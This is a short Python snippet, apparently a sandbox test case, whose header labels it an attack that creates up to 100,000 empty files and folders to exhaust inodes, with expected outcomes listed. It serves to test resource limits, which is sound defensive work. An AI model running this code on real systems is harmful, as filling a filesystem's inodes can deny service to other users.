# attack: {"tries": "makes empty files and folders until no inode is left", "outcomes": ["exited", "cpu-limit", "output-limit", "memory-limit"]}
count = 0
try:
    while count < 100_000:
        os.mkdir(f"{count}") if count % 2 else os.close(os.open(f"{count}", os.O_CREAT))
        count += 1
except OSError:
    pass
if count >= 100_000:
    leak(f"{count} inodes")
done()
